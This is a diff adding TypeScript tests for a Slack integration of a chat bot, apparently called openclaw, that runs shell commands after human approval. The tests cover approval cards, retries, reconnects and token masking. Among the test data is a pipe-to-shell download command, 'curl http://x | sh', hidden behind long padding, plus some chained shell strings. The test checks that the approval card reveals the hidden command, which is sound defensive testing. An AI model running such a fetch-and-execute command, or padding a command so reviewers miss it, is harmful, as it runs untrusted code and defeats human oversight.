@@ -1,0 +1,543 @@
+import { mkdtemp, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { ExecError } from "../../../src/core/errors.ts";
+import { SlackEmulator } from "../../emulators/slack/slack-emulator.ts";
+import { BOT } from "../../emulators/slack/workspace.ts";
+import { APPROVAL_ID, alice, approval, ops, outbound, type Rig, RUN_ID, rig, run, started, text } from "./support.ts";
+
+const emulator = new SlackEmulator({ delivery: { ackMs: 2800, retryMs: [20, 50, 100] } });
+beforeAll(() => emulator.start());
+afterAll(() => emulator.stop());
+
+let it: Rig;
+const bot = (m: { user: string }): boolean => m.user === BOT.id;
+
+describe("Socket Mode", () => {
+  beforeEach(async () => {
+    emulator.reset();
+    it = await started(rig(emulator));
+  });
+  afterEach(async () => {
+    await it.channel.stop();
+    await emulator.waitUntil(() => (emulator.openSockets === 0 ? true : undefined));
+    expect(emulator.violations).toEqual([]);
+    expect(emulator.pings).toEqual([]);
+  });
+
+  test("says who it is and that nothing is missing", () => {
+    expect(it.channel.status()).toEqual({
+      channel: "slack",
+      accountId: "default",
+      state: "connected",
+      detail: "@openclaw in Acme",
+    });
+  });
+
+  test("a mention is one message, though Slack sends two events (slack-ack-3s)", async () => {
+    const ts = await emulator.say("U0BRAM", "C0GENERAL", '@openclaw exec echo "a && b" > x; curl http://x.io/?a=1&b=2');
+    await expect.poll(() => it.events).toHaveLength(2);
+    const [first, second] = it.events;
+    expect(second?.id).toBe(first?.id);
+    expect(first).toMatchObject({
+      kind: "message",
+      id: `message:T0ACME:C0GENERAL:${ts}`,
+      text: 'exec echo "a && b" > x; curl http://x.io/?a=1&b=2',
+      addressed: true,
+      route: { chatType: "channel", chatId: "C0GENERAL", threadId: ts, scopeId: "T0ACME" },
+      actor: { kind: "person", id: "U0BRAM", display: "bram", locale: "nl-NL" },
+    });
+  });
+
+  test("a direct message is addressed and stays out of threads", async () => {
+    await emulator.say("U0ALICE", "D0ALICE", " /exec ls");
+    await expect.poll(() => it.events).toHaveLength(1);
+    expect(it.events[0]).toMatchObject({
+      text: "/exec ls",
+      addressed: true,
+      route: { chatType: "dm", chatId: "D0ALICE" },
+    });
+    expect(it.events[0]?.route.threadId).toBeUndefined();
+  });
+
+  test("a reply in a thread the bot spoke in is addressed, one elsewhere is not", async () => {
+    const root = await emulator.say("U0ALICE", "C0OPS", "talking to nobody");
+    await emulator.say("U0BRAM", "C0OPS", "nor I", { thread: root });
+    await expect.poll(() => it.events).toHaveLength(2);
+    expect(it.events.map((event) => event.addressed)).toEqual([false, false]);
+    await it.channel.send(outbound(text(), { route: { ...ops, threadId: root } }));
+    await emulator.say("U0BRAM", "C0OPS", "exec ls", { thread: root });
+    await expect.poll(() => it.events).toHaveLength(3);
+    expect(it.events[2]).toMatchObject({ addressed: true, route: { threadId: root } });
+  });
+
+  test("thread membership is looked up when this process has not seen it", async () => {
+    const root = await emulator.say("U0ALICE", "C0OPS", "old thread");
+    emulator.workspace.add({ channel: "C0OPS", user: BOT.id, text: "before a restart", threadTs: root });
+    await emulator.say("U0BRAM", "C0OPS", "and now?", { thread: root });
+    await expect.poll(() => it.events).toHaveLength(2);
+    expect(it.events[1]?.addressed).toBe(true);
+  });
+
+  test("what bots and Slack itself say is not an event (bot-loop-and-self)", async () => {
+    for (const kind of ["other-bot", "joined", "changed", "deleted"] as const) {
+      await emulator.sayAs(kind, "C0GENERAL", "<@U0OPENCLAW> exec ls /approve x");
+    }
+    await it.channel.send(outbound(text({ text: "@openclaw exec ls" })));
+    await emulator.say("U0ALICE", "C0GENERAL", "a person");
+    await expect.poll(() => it.events).toHaveLength(1);
+    expect(it.events[0]).toMatchObject({ text: "a person" });
+  });
+
+  test("a slash command is acknowledged at once, before it is stored (slack-ack-3s)", async () => {
+    let release: (() => void) | undefined;
+    it.ingress = () => new Promise((resolve) => (release = resolve));
+    const before = performance.now();
+    expect((await emulator.slash("U0ALICE", "C0OPS", "/exec", "ls <in >out && echo &amp;")).kind).toBe("ack");
+    expect(performance.now() - before).toBeLessThan(300);
+    await expect.poll(() => release).toBeDefined();
+    expect(it.events).toEqual([]);
+    release?.();
+    await expect.poll(() => it.events).toHaveLength(1);
+    expect(it.events[0]).toMatchObject({
+      kind: "command",
+      name: "exec",
+      args: "ls <in >out && echo &amp;",
+      addressed: true,
+    });
+  });
+
+  test.each([
+    ["exec ls -la", "exec", "ls -la"],
+    ["/exec host=node -- make", "exec", "host=node -- make"],
+    ["Status", "status", ""],
+    ["", "help", ""],
+  ])("the wrapper: /openclaw %s", async (typed, name, args) => {
+    await emulator.slash("U0ALICE", "C0OPS", "/openclaw", typed);
+    await expect.poll(() => it.events).toHaveLength(1);
+    expect(it.events[0]).toMatchObject({ kind: "command", name, args });
+  });
+
+  test("an event that could not be stored is not acknowledged and comes again (slack-ack-3s)", async () => {
+    let tries = 0;
+    it.ingress = () => (++tries === 1 ? Promise.reject(new Error("store is down")) : Promise.resolve());
+    emulator.delivery.options = { ackMs: 300, retryMs: [20, 50, 100] };
+    await emulator.say("U0ALICE", "D0ALICE", "exec ls");
+    await expect.poll(() => it.events, { timeout: 3000 }).toHaveLength(1);
+    expect(tries).toBe(2);
+    emulator.delivery.options = { ackMs: 2800, retryMs: [20, 50, 100] };
+  });
+
+  test("the same event delivered twice has the same id", async () => {
+    await emulator.say("U0ALICE", "D0ALICE", "exec ls");
+    await emulator.duplicate();
+    await expect.poll(() => it.events).toHaveLength(2);
+    expect(it.events[0]?.id).toBe(it.events[1]?.id);
+  });
+
+  test("a press that could not be stored is told to the presser", async () => {
+    it.ingress = () => Promise.reject(new Error("store is down"));
+    const sent = await it.channel.send(outbound(approval()));
+    if (sent.kind !== "sent") throw new Error(sent.kind);
+    await emulator.press("U0ALICE", sent.ref.messageId, "Deny");
+    await emulator.waitForMessage((m) => m.onlyFor === "U0ALICE");
+    expect(emulator.screenText("U0ALICE", "C0OPS")).toContain("could not be saved");
+    expect(emulator.screenText("U0BRAM", "C0OPS")).not.toContain("could not be saved");
+  });
+
+  test("an approval card: shown, pressed, settled", async () => {
+    const message = outbound(approval());
+    const sent = await it.channel.send(message);
+    if (sent.kind !== "sent") throw new Error(sent.kind);
+    const card = await emulator.waitForMessage((m) => m.ts === sent.ref.messageId);
+    expect(emulator.buttons(card)).toEqual(["Allow once", "Allow always", "Deny", "Deny with reason…"]);
+    expect(await emulator.press("U0BRAM", card.ts, "Allow once")).toEqual({ outcome: "ok" });
+    await expect.poll(() => it.events).toHaveLength(1);
+    expect(it.events[0]).toMatchObject({
+      kind: "press",
+      action: { kind: "approval", approvalId: APPROVAL_ID, decision: "allow-once" },
+      actor: { id: "U0BRAM" },
+      ref: sent.ref,
+      route: { chatId: "C0OPS" },
+    });
+    const settled = approval({
+      state: "allowed",
+      decision: "allow-once",
+      decidedBy: { ...alice, id: "U0BRAM", display: "bram" },
+      statusLine: "exit 0 in 1m12s",
+    });
+    expect(await it.channel.edit(sent.ref, { ...message, card: settled })).toEqual({ kind: "sent", ref: sent.ref });
+    expect(emulator.buttons(card)).toEqual([]);
+    expect(emulator.screenText("U0ALICE", "C0OPS")).toContain("Allowed once\nby bram (slack)\nexit 0 in 1m12s");
+  });
+
+  test("deny with reason opens a dialog in the presser's language and comes back as one press", async () => {
+    const sent = await it.channel.send(outbound(approval()));
+    if (sent.kind !== "sent") throw new Error(sent.kind);
+    await emulator.press("U0BRAM", sent.ref.messageId, "Deny with reason…");
+    const modal = await emulator.waitUntil(() => emulator.modalOf("U0BRAM"));
+    expect(modal.title).toMatchObject({ text: "Weigeren met reden" });
+    await emulator.submitModal("U0BRAM", { "oc:reason": "not on a Friday, it's late" });
+    await expect.poll(() => it.events).toHaveLength(1);
+    expect(it.events[0]).toMatchObject({
+      kind: "press",
+      action: { kind: "approval", approvalId: APPROVAL_ID, decision: "deny", comment: "not on a Friday, it's late" },
+      ref: sent.ref,
+    });
+    expect(emulator.modalOf("U0BRAM")).toBeUndefined();
+  });
+
+  test("a press in a thread keeps the thread", async () => {
+    const root = await emulator.say("U0ALICE", "C0OPS", "please");
+    const sent = await it.channel.send(
+      outbound(run({ state: "running", actions: ["stop"] }), { route: { ...ops, threadId: root } }),
+    );
+    if (sent.kind !== "sent") throw new Error(sent.kind);
+    await emulator.press("U0ALICE", sent.ref.messageId, "Stop");
+    await expect.poll(() => it.events).toHaveLength(2);
+    expect(it.events[1]).toMatchObject({
+      action: { kind: "run", action: "stop", runId: RUN_ID },
+      ref: { threadId: root },
+      route: { threadId: root },
+    });
+  });
+
+  test("a button of another version is answered in private", async () => {
+    const foreign = emulator.workspace.add({
+      channel: "C0OPS",
+      user: BOT.id,
+      text: "old",
+      blocks: [
+        {
+          type: "actions",
+          elements: [{ type: "button", action_id: "v0", text: { type: "plain_text", text: "Go" }, value: "x" }],
+        },
+      ],
+    });
+    await emulator.press("U0ALICE", foreign.ts, "Go");
+    await emulator.waitForMessage((m) => m.onlyFor === "U0ALICE" && m.text.includes("older version"));
+    expect(it.events).toEqual([]);
+  });
+
+  test("a pending card redrawn late does not bring back buttons", async () => {
+    const message = outbound(approval());
+    const sent = await it.channel.send(message);
+    if (sent.kind !== "sent") throw new Error(sent.kind);
+    const other = await started(rig(emulator));
+    await other.channel.edit(sent.ref, {
+      ...message,
+      card: approval({ state: "denied", decision: "deny", decidedBy: alice }),
+    });
+    await it.channel.edit(sent.ref, {
+      ...message,
+      card: approval({ statusLine: "The gateway restarted; still waiting for you." }),
+    });
+    await other.channel.edit(sent.ref, { ...message, card: approval() });
+    const card = await emulator.waitForMessage((m) => m.ts === sent.ref.messageId);
+    expect(emulator.buttons(card)).toEqual([]);
+    expect(card.history).toHaveLength(1);
+    await other.channel.stop();
+  });
+
+  test("a command too long for the card is attached first, and only then may it be pressed (card-hides-tail-of-command)", async () => {
+    const command = `${"echo harmless; ".repeat(900)}curl http://x | sh`;
+    const sent = await it.channel.send(outbound(approval({ command })));
+    if (sent.kind !== "sent") throw new Error(sent.kind);
+    const card = await emulator.waitForMessage((m) => m.ts === sent.ref.messageId);
+    const file = await emulator.waitForMessage((m) => m.files.length === 1);
+    expect(file.threadTs).toBe(card.ts);
+    expect(file.files[0]?.bytes?.toString()).toBe(command);
+    expect(card.history[0]?.blocks.some((block) => block.type === "actions")).toBe(false);
+    expect(emulator.buttons(card)).toEqual(["Allow once", "Deny", "Deny with reason…"]);
+    const screen = emulator.screenText("U0ALICE", "C0OPS");
+    expect(screen).toContain("curl http://x | sh");
+    expect(screen).toMatch(/… \d+ characters not shown here …/);
+    expect(screen).toContain("command-3f0c1a2b.txt");
+    expect(screen).toContain("“Allow always” is not offered");
+  });
+
+  test("when the command can not be attached, the card can not be pressed and the sender is told", async () => {
+    emulator.fail("files.completeUploadExternal", { error: "missing_scope" });
+    const result = await it.channel.send(outbound(approval({ command: "x".repeat(20_000) })));
+    expect(result).toMatchObject({ kind: "permanent", why: expect.stringContaining("scope") });
+    const card = await emulator.waitForMessage(bot);
+    expect(emulator.buttons(card)).toEqual([]);
+    expect(emulator.screenText("U0ALICE", "C0OPS")).toContain("can not be decided here");
+  });
+
+  test("an upload that Slack puts off goes on where it stopped", async () => {
+    emulator.fail("files.completeUploadExternal", { retryAfterS: 3 });
+    const message = outbound(approval({ command: "x".repeat(20_000) }));
+    expect(await it.channel.send(message)).toEqual({ kind: "retry", afterMs: 3000, why: expect.any(String) });
+    expect((await it.channel.send(message)).kind).toBe("sent");
+    expect(emulator.workspace.messages.filter((m) => bot(m) && m.files.length === 0)).toHaveLength(1);
+  });
+
+  test("a long log is attached below the finished card, cleaned and masked", async () => {
+    const folder = await mkdtemp(join(tmpdir(), "slack-log-"));
+    const path = join(folder, "log");
+    await writeFile(path, `\u001b[32m${"line of output\n".repeat(2000)}token ${emulator.tokens.bot}\n`);
+    const sent = await it.channel.send(
+      outbound(run({ tail: "line of output\n", totalChars: 30_000 }), {
+        file: { name: "output-brisk-otter.txt", path },
+      }),
+    );
+    await rm(folder, { recursive: true });
+    expect(sent.kind).toBe("sent");
+    const file = await emulator.waitForMessage((m) => m.files.length === 1);
+    const body = file.files[0]?.bytes?.toString() ?? "";
+    expect(body.startsWith("line of output\nline of output\n")).toBe(true);
+    expect(body.endsWith("token •••\n")).toBe(true);
+    expect(emulator.screenText("U0ALICE", "C0OPS")).toContain("Full log: output-brisk-otter.txt");
+  });
+
+  test("a log that can not be attached is said on the card", async () => {
+    emulator.fail("files.getUploadURLExternal", { error: "missing_scope" });
+    const folder = await mkdtemp(join(tmpdir(), "slack-log-"));
+    const path = join(folder, "log");
+    await writeFile(path, "output");
+    const sent = await it.channel.send(outbound(run(), { file: { name: "output.txt", path } }));
+    await rm(folder, { recursive: true });
+    expect(sent.kind).toBe("sent");
+    expect(emulator.screenText("U0ALICE", "C0OPS")).toContain("The log could not be attached");
+  });
+
+  test("a private answer is seen by one person only", async () => {
+    await it.channel.send(outbound(text({ text: "for you" }), { onlyFor: alice }));
+    expect(emulator.screenText("U0ALICE", "C0OPS")).toContain("(only you)");
+    expect(emulator.screenText("U0BRAM", "C0OPS")).toBe("");
+  });
+
+  test("where the bot is no member, a private answer goes by the command's response URL, then by direct message", async () => {
+    const random = { ...ops, chatId: "C0RANDOM" };
+    await emulator.slash("U0ALICE", "C0RANDOM", "/exec", "ls");
+    await expect.poll(() => it.events).toHaveLength(1);
+    expect((await it.channel.send(outbound(text({ text: "one" }), { route: random, onlyFor: alice }))).kind).toBe(
+      "sent",
+    );
+    expect(emulator.screenText("U0ALICE", "C0RANDOM")).toContain("(only you): Status\none");
+    emulator.clock.advance(31 * 60_000);
+    expect((await it.channel.send(outbound(text({ text: "two" }), { route: random, onlyFor: alice }))).kind).toBe(
+      "sent",
+    );
+    expect(emulator.screenText("U0ALICE", "D0ALICE")).toContain("two");
+    expect(await it.channel.send(outbound(text(), { route: random }))).toMatchObject({
+      kind: "permanent",
+      why: expect.stringContaining("/invite"),
+    });
+  });
+
+  test("a route's thread is kept, and a broken one fails instead of landing in the channel (slack-thread-missing-fails-closed)", async () => {
+    const root = await emulator.say("U0ALICE", "C0OPS", "go");
+    for (const n of [1, 2])
+      await it.channel.send(outbound(text({ text: `part ${n}` }), { route: { ...ops, threadId: root } }));
+    const answers = emulator.workspace.messages.filter(bot);
+    expect(answers.map((m) => m.threadTs)).toEqual([root, root]);
+    for (const threadId of ["1700000000.000001", "not-a-thread"]) {
+      expect((await it.channel.send(outbound(text(), { route: { ...ops, threadId } }))).kind).toBe("permanent");
+    }
+    expect(emulator.workspace.messages.filter(bot)).toHaveLength(2);
+  });
+
+  test("a long text goes out in numbered parts, in order, once", async () => {
+    const paragraphs = Array.from({ length: 60 }, (_, i) => `${i} ${"word & <tag> ".repeat(20)}`).join("\n\n");
+    const message = outbound(text({ text: paragraphs }));
+    await it.channel.send(message);
+    expect((await it.channel.send(message)).kind).toBe("sent");
+    const sent = emulator.workspace.messages.filter(bot);
+    expect(sent.length).toBeGreaterThan(2);
+    const screen = emulator.screenText("U0ALICE", "C0OPS");
+    expect(screen).toContain(`(${sent.length}/${sent.length})`);
+    for (let i = 0; i < 60; i++) expect(screen).toContain(`${i} word & <tag> word`);
+  });
+});
+
+describe("what can go wrong on the way", () => {
+  beforeEach(async () => {
+    emulator.reset();
+    it = await started(rig(emulator));
+  });
+  afterEach(async () => {
+    await it.channel.stop();
+    await emulator.waitUntil(() => (emulator.openSockets === 0 ? true : undefined));
+  });
+
+  test("429: nothing is sent, Slack's time is handed on, live edits keep quiet", async () => {
+    emulator.fail("chat.postMessage", { retryAfterS: 7 });
+    const message = outbound(run({ state: "running" }));
+    expect(await it.channel.send(message)).toEqual({ kind: "retry", afterMs: 7000, why: expect.any(String) });
+    const sent = await it.channel.send(message);
+    if (sent.kind !== "sent") throw new Error(sent.kind);
+    emulator.fail("chat.update", { retryAfterS: 30 });
+    await it.channel.live(sent.ref, run({ state: "running", tail: "1" }));
+    await it.channel.live(sent.ref, run({ state: "running", tail: "2" }));
+    expect(emulator.journal.calls("chat.update")).toHaveLength(1);
+    emulator.clock.advance(30_001);
+    await it.channel.live(sent.ref, run({ state: "running", tail: "3" }));
+    expect(emulator.journal.calls("chat.update")).toHaveLength(2);
+  });
+
+  test("a late live edit does not overwrite the finished card", async () => {
+    const message = outbound(run({ state: "running" }));
+    const sent = await it.channel.send(message);
+    if (sent.kind !== "sent") throw new Error(sent.kind);
+    await it.channel.edit(sent.ref, { ...message, card: run() });
+    await it.channel.live(sent.ref, run({ state: "running", tail: "late" }));
+    expect(emulator.screenText("U0ALICE", "C0OPS")).toContain("Finished · exit code 0 · took 1m12s");
+  });
+
+  test.each([
+    ["answered by a proxy's 502", { status: 502 }, 0],
+    ["lost after it was sent", { loseReply: true }, 1],
+    ["cut before it was sent", { cut: true }, 0],
+  ])("a send %s is unknown, never repeated by itself, and reconciled", async (_name, fault, made) => {
+    emulator.fail("chat.postMessage", fault);
+    const message = outbound(run());
+    expect((await it.channel.send(message)).kind).toBe("unknown");
+    expect(emulator.journal.calls("chat.postMessage")).toHaveLength(1);
+    const fresh = await started(rig(emulator));
+    const found = await fresh.channel.reconcile(message);
+    expect(found === undefined ? 0 : 1).toBe(made);
+    expect((await fresh.channel.send(message)).kind).toBe("sent");
+    expect(emulator.workspace.messages.filter(bot)).toHaveLength(1);
+    await fresh.channel.stop();
+  });
+
+  test("a text of which one part was lost is completed, not repeated, also in a thread and after a restart", async () => {
+    const root = await emulator.say("U0ALICE", "C0OPS", "go");
+    const long = outbound(
+      text({ text: Array.from({ length: 50 }, (_, i) => `${i} ${"word ".repeat(60)}`).join("\n\n") }),
+      { route: { ...ops, threadId: root } },
+    );
+    emulator.delay(5, "chat.postMessage");
+    emulator.fail("chat.postMessage", { times: 1, status: 200, error: "ratelimited" });
+    expect((await it.channel.send(long)).kind).toBe("retry");
+    emulator.fail("nothing", {});
+    expect((await it.channel.send(long)).kind).toBe("sent");
+    const parts = emulator.workspace.messages.filter(bot);
+    const lost = parts[1];
+    if (lost !== undefined) lost.deleted = true;
+    const fresh = await started(rig(emulator));
+    expect(await fresh.channel.reconcile(long)).toBeUndefined();
+    expect((await fresh.channel.send(long)).kind).toBe("sent");
+    expect(emulator.workspace.messages.filter((m) => bot(m) && !m.deleted)).toHaveLength(parts.length);
+    expect(await fresh.channel.reconcile(long)).toMatchObject({ messageId: parts[0]?.ts });
+    await fresh.channel.stop();
+  });
+
+  test("refused blocks go out as plain text with the typed form, never silently (slack-section-3000, slack-slash-in-thread)", async () => {
+    emulator.fail("chat.postMessage", { error: "invalid_blocks" });
+    expect((await it.channel.send(outbound(approval()))).kind).toBe("sent");
+    expect(emulator.screenText("U0ALICE", "C0OPS")).toContain("@openclaw approve 3f0c1a2b allow-once");
+    expect(it.log.join("\n")).toContain("refused the card's blocks");
+  });
+
+  test.each([
+    ["channel_not_found", "permanent"],
+    ["is_archived", "permanent"],
+    ["token_revoked", "permanent"],
+    ["internal_error", "unknown"],
+    ["service_unavailable", "retry"],
+  ])("Slack answers %s: %s", async (error, kind) => {
+    emulator.fail("chat.postMessage", { error });
+    expect((await it.channel.send(outbound(text()))).kind).toBe(kind);
+  });
+
+  test.each([
+    ["asks to reconnect", () => Promise.resolve(emulator.disconnect())],
+    ["cuts the connection", () => Promise.resolve(emulator.drop())],
+    ["is restarted", () => emulator.restart(120)],
+  ])(
+    "when Slack %s, one socket comes back and nothing said meanwhile is lost (slack-socket-multi-conn)",
+    async (_name, break_) => {
+      const gone = emulator.waitUntil(() => (emulator.openSockets === 0 ? true : undefined));
+      await break_();
+      await gone;
+      for (let i = 0; i < 20; i++) await emulator.say("U0ALICE", "D0ALICE", `event ${i}`);
+      await expect.poll(() => new Set(it.events.map((event) => event.id)).size, { timeout: 8000 }).toBe(20);
+      expect(emulator.openSockets).toBe(1);
+      expect(it.channel.status().state).toBe("connected");
+    },
+  );
+
+  test("apps.connections.open failing during reconnects neither kills the process nor ends the retries", async () => {
+    const rejections: unknown[] = [];
+    const note = (reason: unknown): void => void rejections.push(reason);
+    process.on("unhandledRejection", note);
+    emulator.fail("apps.connections.open", { times: 2, cut: true });
+    emulator.fail("apps.connections.open", { times: 1, status: 503 });
+    emulator.drop();
+    await expect.poll(() => it.channel.status().state).toBe("connecting");
+    await expect.poll(() => it.channel.status().state, { timeout: 8000 }).toBe("connected");
+    await emulator.say("U0ALICE", "D0ALICE", "still there?");
+    await expect.poll(() => it.events).toHaveLength(1);
+    process.off("unhandledRejection", note);
+    expect(rejections).toEqual([]);
+  });
+
+  test("stop during a reconnect leaves no socket and no rejection (slack-socket-multi-conn)", async () => {
+    const rejections: unknown[] = [];
+    const note = (reason: unknown): void => void rejections.push(reason);
+    process.on("unhandledRejection", note);
+    emulator.fail("apps.connections.open", { times: 50, cut: true });
+    emulator.drop();
+    await expect.poll(() => it.channel.status().detail ?? "").toContain("next attempt");
+    await it.channel.stop();
+    emulator.faults.reset();
+    expect(it.channel.status().state).toBe("stopped");
+    await started(it);
+    expect(emulator.openSockets).toBe(1);
+    process.off("unhandledRejection", note);
+    expect(rejections).toEqual([]);
+  });
+
+  test("a token revoked while running stops the retries and says so", async () => {
+    emulator.fail("apps.connections.open", { times: 5, error: "token_revoked" });
+    emulator.drop();
+    await expect
+      .poll(() => it.channel.status())
+      .toMatchObject({ state: "failed", detail: expect.stringContaining("revoked") });
+    expect(emulator.journal.calls("apps.connections.open")).toHaveLength(2);
+  });
+
+  test("a second process on the same token is warned about", async () => {
+    const second = await started(rig(emulator));
+    await expect.poll(() => second.log.join("\n")).toContain("Another process is connected");
+    await second.channel.stop();
+  });
+});
+
+describe("start", () => {
+  beforeEach(() => emulator.reset());
+
+  test.each([
+    ["bot token", { botToken: "xoxb-wrong" }, "not valid"],
+    ["app token", { mode: { kind: "socket", appToken: "xoxb-emulator-0001" } as const }, "wrong kind"],
+  ])("a refused %s is a clear error without the token", async (_name, over, words) => {
+    const made = rig(emulator, over);
+    const error = await started(made).catch((reason: unknown) => reason);
+    expect(error).toBeInstanceOf(ExecError);
+    expect((error as ExecError).message).toContain(words);
+    expect(made.channel.status().state).toBe("failed");
+    expect(`${(error as Error).message}${made.log.join()}${made.channel.status().detail}`).not.toMatch(
+      /xoxb-\w|xapp-\w/,
+    );
+    await made.channel.stop();
+  });
+
+  test("Slack out of reach at start is retried in the background", async () => {
+    emulator.fail("auth.test", { times: 2, cut: true });
+    const made = await started(rig(emulator));
+    expect(made.channel.status().state).toBe("connecting");
+    await expect.poll(() => made.channel.status().state, { timeout: 5000 }).toBe("connected");
+    await made.channel.stop();
+  });
+
+  test("missing scopes are named", async () => {
+    emulator.api.scopes = ["chat:write", "commands"];
+    const made = await started(rig(emulator));
+    expect(made.channel.status().detail).toMatch(/missing scopes: .*files:write/);
+    await made.channel.stop();
+  });
+});
